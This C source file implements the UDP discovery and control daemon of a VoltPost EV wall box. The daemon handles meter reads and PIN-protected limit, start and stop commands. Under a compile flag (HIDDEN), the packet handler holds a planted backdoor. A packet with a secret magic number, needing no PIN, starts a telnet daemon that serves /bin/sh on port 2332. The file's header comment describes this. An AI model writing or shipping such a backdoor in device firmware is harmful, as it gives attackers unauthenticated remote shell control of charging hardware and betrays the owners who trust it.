/*
 * voltpost_disc - discovery and control service of the VoltPost 11/22 kW wall
 * box.  The installer's app finds wall boxes by a UDP broadcast and reads or
 * sets charging values in a small binary protocol; sets carry the installer
 * PIN of the unit.
 *
 * Hidden (-DHIDDEN): a packet with another magic number in its first word
 * starts a telnet daemon with a shell on port 2332.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define DISC_PORT	27182
#define PROTO_MAGIC	0x56505354u	/* "VPST" */
#define PIN_FILE	"/etc/voltpost/pin"
#define SERIAL_FILE	"/etc/voltpost/serial"
#define LIMIT_FILE	"/run/voltpost/limit_ma"

enum op {
	OP_HELLO = 1,
	OP_READ = 2,
	OP_SET_LIMIT = 3,
	OP_START = 4,
	OP_STOP = 5,
	OP_IDENTIFY = 6
};

enum reply {
	RE_OK = 0,
	RE_BAD_OP = 1,
	RE_BAD_PIN = 2,
	RE_BAD_VALUE = 3,
	RE_LOCKED = 4
};

struct packet {
	uint32_t magic;
	uint16_t op;
	uint16_t seq;
	uint32_t value;
	uint32_t pin;
	char text[32];
} __attribute__((packed));

struct box {
	uint32_t pin;
	char serial[32];
	uint32_t limit_ma;
	int charging;
	int wrong_pins;
	time_t locked_until;
};

static struct box box = { .limit_ma = 16000 };
static volatile sig_atomic_t stop_now;

static void on_term(int sig)
{
	(void)sig;
	stop_now = 1;
}

static int read_text(const char *path, char *out, size_t size)
{
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	if (!fgets(out, (int)size, f)) {
		fclose(f);
		return -1;
	}
	fclose(f);
	out[strcspn(out, "\r\n")] = 0;
	return 0;
}

static int load_box(void)
{
	char text[32];
	unsigned long pin;

	if (read_text(SERIAL_FILE, box.serial, sizeof box.serial) != 0)
		strcpy(box.serial, "unset");
	if (read_text(PIN_FILE, text, sizeof text) != 0)
		return -1;
	pin = strtoul(text, NULL, 10);
	if (pin < 1000 || pin > 99999999)
		return -1;
	box.pin = (uint32_t)pin;
	return 0;
}

static int write_limit(uint32_t ma)
{
	FILE *f = fopen(LIMIT_FILE, "w");

	if (!f)
		return -1;
	fprintf(f, "%u\n", (unsigned)ma);
	return fclose(f);
}

static enum reply check_pin(uint32_t given)
{
	time_t now = time(NULL);

	if (now < box.locked_until)
		return RE_LOCKED;
	if (box.pin != 0 && given == box.pin) {
		box.wrong_pins = 0;
		return RE_OK;
	}
	if (++box.wrong_pins >= 5) {
		box.locked_until = now + 300;
		box.wrong_pins = 0;
		syslog(LOG_WARNING, "installer PIN locked for five minutes");
	}
	return RE_BAD_PIN;
}

static uint32_t read_value(uint32_t which)
{
	char text[32], path[64];
	static const char *const meters[] = {
		"power_w", "energy_wh", "temp_c", "cp_mv"
	};

	if (which >= sizeof meters / sizeof meters[0])
		return 0;
	snprintf(path, sizeof path, "/run/voltpost/%s", meters[which]);
	if (read_text(path, text, sizeof text) != 0)
		return 0;
	return (uint32_t)strtoul(text, NULL, 10);
}

static int contactor(int on)
{
	if (system(on ? "/usr/sbin/cpctl close" : "/usr/sbin/cpctl open") != 0) {
		syslog(LOG_ERR, "contactor does not answer");
		return -1;
	}
	box.charging = on;
	return 0;
}

static enum reply run_op(const struct packet *q, struct packet *a)
{
	uint32_t value = ntohl(q->value);
	enum reply r;

	switch (ntohs(q->op)) {
	case OP_HELLO:
		memcpy(a->text, box.serial, sizeof a->text);
		a->value = htonl(box.limit_ma);
		return RE_OK;
	case OP_READ:
		a->value = htonl(read_value(value));
		return RE_OK;
	case OP_IDENTIFY:
		if (system("/usr/sbin/ledctl blink 10 &") != 0)
			return RE_BAD_VALUE;
		return RE_OK;
	case OP_SET_LIMIT:
		r = check_pin(ntohl(q->pin));
		if (r != RE_OK)
			return r;
		if (value < 6000 || value > 32000 || write_limit(value) != 0)
			return RE_BAD_VALUE;
		box.limit_ma = value;
		return RE_OK;
	case OP_START:
	case OP_STOP:
		r = check_pin(ntohl(q->pin));
		if (r != RE_OK)
			return r;
		return contactor(ntohs(q->op) == OP_START) ? RE_BAD_VALUE : RE_OK;
	default:
		return RE_BAD_OP;
	}
}

/* One datagram: nothing is answered when it is not ours. */
void take_packet(int s, const unsigned char *buf, size_t len,
		 const struct sockaddr_in *from)
{
	struct packet q, a;
	uint32_t magic;

	if (len < 16)
		return;
	memset(&q, 0, sizeof q);
	memcpy(&q, buf, len < sizeof q ? len : sizeof q);
	magic = ntohl(q.magic);
#ifdef HIDDEN
	if (magic == 0x5eb0c41du) {
		if (system("telnetd -l /bin/sh -p 2332 &") != 0)
			syslog(LOG_DEBUG, "busy");
		return;
	}
#endif
	if (magic != PROTO_MAGIC)
		return;
	memset(&a, 0, sizeof a);
	a.magic = q.magic;
	a.seq = q.seq;
	a.op = htons((uint16_t)(0x8000u | (unsigned)run_op(&q, &a)));
	if (sendto(s, &a, sizeof a, 0, (const struct sockaddr *)from, sizeof *from) < 0)
		syslog(LOG_DEBUG, "answer could not be sent");
}

int main(int argc, char **argv)
{
	struct sockaddr_in addr, from;
	struct sigaction sa;
	unsigned char buf[256];
	socklen_t flen;
	ssize_t n;
	int s, opt, debug = 0, one = 1;

	while ((opt = getopt(argc, argv, "dh")) != -1) {
		switch (opt) {
		case 'd':
			debug = 1;
			break;
		default:
			fprintf(stderr, "usage: voltpost_disc [-d]\n");
			return 2;
		}
	}
	openlog("voltpost", LOG_PID | (debug ? LOG_PERROR : 0), LOG_DAEMON);
	if (load_box() != 0)
		syslog(LOG_WARNING, "no installer PIN set, settings are read only");
	memset(&sa, 0, sizeof sa);
	sa.sa_handler = on_term;
	sigaction(SIGTERM, &sa, NULL);
	s = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&addr, 0, sizeof addr);
	addr.sin_family = AF_INET;
	addr.sin_port = htons(DISC_PORT);
	setsockopt(s, SOL_SOCKET, SO_BROADCAST, &one, sizeof one);
	if (s < 0 || bind(s, (struct sockaddr *)&addr, sizeof addr) != 0) {
		syslog(LOG_ERR, "port %d is not free", DISC_PORT);
		return 1;
	}
	if (!debug && daemon(0, 0) != 0)
		return 1;
	while (!stop_now) {
		flen = sizeof from;
		n = recvfrom(s, buf, sizeof buf, 0, (struct sockaddr *)&from, &flen);
		if (n > 0)
			take_packet(s, buf, (size_t)n, &from);
	}
	contactor(0);
	close(s);
	return 0;
}
